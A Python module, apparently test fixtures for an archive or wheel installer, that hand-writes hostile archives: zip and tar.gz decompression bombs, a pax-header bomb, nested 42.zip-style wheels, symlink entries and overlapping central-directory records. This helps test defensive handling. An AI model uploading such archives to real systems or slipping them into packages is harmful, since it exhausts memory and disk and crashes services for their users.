"""Builders of hostile archives, written byte by byte where zipfile/tarfile would refuse to write them."""

from __future__ import annotations

import gzip
import io
import stat
import struct
import tarfile
import zlib
from dataclasses import dataclass

MIB = 1 << 20


def zero_blocks(mib: int) -> bytes:
    """A raw deflate stream of ``mib`` MiB of zeros, about 1 KB per MiB (each MiB is one fully flushed
    block, identical to the others, so 10 GB cost 10 MB and no time to make)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * MIB) + c.flush(zlib.Z_FULL_FLUSH)
    return block * mib + b"\x03\x00"  # an empty final block


def zero_block() -> bytes:
    """One fully flushed deflate block of one MiB of zeros: repeated, a stream that never ends."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b"\0" * MIB) + c.flush(zlib.Z_FULL_FLUSH)


@dataclass
class Entry:
    name: bytes
    payload: bytes  # the bytes as stored (already compressed for method 8)
    method: int = 0
    usize: int | None = None  # declared uncompressed size (default: len(payload))
    csize: int | None = None  # declared compressed size (default: len(payload))
    crc: int | None = None
    flags: int = 0
    external: int = 0  # external attributes (high 16 bits: unix mode)


def _header_fields(e: Entry) -> tuple[int, int, int, bytes]:
    """crc, compressed and uncompressed size as a header declares them (0xFFFFFFFF + a zip64 extra
    field when they do not fit 32 bits), and that extra field."""
    crc = zlib.crc32(e.payload) if e.crc is None else e.crc
    csize = len(e.payload) if e.csize is None else e.csize
    usize = len(e.payload) if e.usize is None else e.usize
    if usize >= 0xFFFFFFFF or csize >= 0xFFFFFFFF:
        return crc, 0xFFFFFFFF, 0xFFFFFFFF, struct.pack("<HHQQ", 1, 16, usize, csize)
    return crc, csize, usize, b""


def raw_zip(entries: list[Entry], *, central: list[tuple[int, int]] | None = None) -> bytes:
    """A zip written by hand. ``central`` lists (entry index, local header offset delta) for the
    central directory (default: every entry once, at its own offset): duplicates and overlaps."""
    out = bytearray()
    offsets = []
    for e in entries:
        offsets.append(len(out))
        crc, csize, usize, extra = _header_fields(e)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, e.flags, e.method, 0, 0x21, crc, csize, usize,
                           len(e.name), len(extra)) + e.name + extra + e.payload
    cd = bytearray()
    for i, delta in central or [(i, 0) for i in range(len(entries))]:
        e = entries[i]
        crc, csize, usize, extra = _header_fields(e)
        cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031E, 45, e.flags, e.method, 0, 0x21, crc, csize,
                          usize, len(e.name), len(extra), 0, 0, 0, e.external, offsets[i] + delta) + e.name + extra
    n = len(central) if central else len(entries)
    return bytes(out + cd + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(cd), len(out), 0))


def deflated(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def symlink_entry(name: bytes, target: bytes) -> Entry:
    return Entry(name, target, external=(stat.S_IFLNK | 0o777) << 16)


METADATA = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def wheel_with(*entries: Entry) -> bytes:
    """A wheel of demo 1.0 with its METADATA and WHEEL, plus ``entries``."""
    return raw_zip([*entries, Entry(b"demo-1.0.dist-info/METADATA", deflated(METADATA), 8, len(METADATA),
                                    crc=zlib.crc32(METADATA)),
                    Entry(b"demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nTag: py3-none-any\n")])


def tar_member(name: str, data: bytes = b"", *, kind: bytes = tarfile.REGTYPE, link: str = "",
               devmajor: int = 0) -> tuple[tarfile.TarInfo, bytes]:
    ti = tarfile.TarInfo(name)
    ti.type, ti.linkname, ti.size, ti.devmajor = kind, link, len(data) if kind == tarfile.REGTYPE else 0, devmajor
    return ti, data


def tar_bytes(*members: tuple[tarfile.TarInfo, bytes], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=fmt) as t:
        for ti, data in members:
            t.addfile(ti, io.BytesIO(data) if ti.isreg() else None)
    return raw.getvalue()


def targz(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    return gzip.compress(tar_bytes(*members), 9, mtime=0)


def gzip_of_stream(head: bytes, body_deflate_blocks: bytes) -> bytes:
    """A gzip file whose deflate stream is ``head`` (compressed, fully flushed) then the given raw
    blocks (which end the stream); CRC and size in the trailer are not those of the content."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + first + body_deflate_blocks + struct.pack("<II", 0, 0)


def ustar_header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    """One 512-byte tar header declaring ``size`` bytes of data (none follow)."""
    ti = tarfile.TarInfo(name)
    ti.size, ti.type = size, kind
    return ti.tobuf(tarfile.GNU_FORMAT)


def targz_bomb(gib: int) -> bytes:
    """A .tar.gz of a few MB: one member of ``gib`` GiB of zeros (about 1 KB of gzip per MiB)."""
    return gzip_of_stream(ustar_header("bomb-1.0/zeros", gib << 30), zero_blocks(gib << 10))


def pax_header_bomb(mib: int) -> bytes:
    """A .tar.gz whose first header is a pax extended header declaring ``mib`` MiB, all zeros: tarfile
    would read it with a single read() of that size."""
    return gzip_of_stream(ustar_header("././@PaxHeader", mib << 20, tarfile.XHDTYPE), zero_blocks(mib))


def zip_bomb_wheel(gib: int) -> bytes:
    """A wheel of a few MB whose one data member inflates to ``gib`` GiB of zeros (declared honestly)."""
    return wheel_with(Entry(b"demo/zeros.bin", zero_blocks(gib << 10), 8, gib << 30, crc=0))


def nested_bomb_wheel(inner: int = 16, gib: int = 1) -> bytes:
    """42.zip-style: a wheel holding a stored zip that holds ``inner`` members of ``gib`` GiB each."""
    blocks = zero_blocks(gib << 10)
    nested = raw_zip([Entry(f"z{i}.bin".encode(), blocks, 8, gib << 30, crc=0) for i in range(inner)])
    return wheel_with(Entry(b"demo/nested.zip", nested))
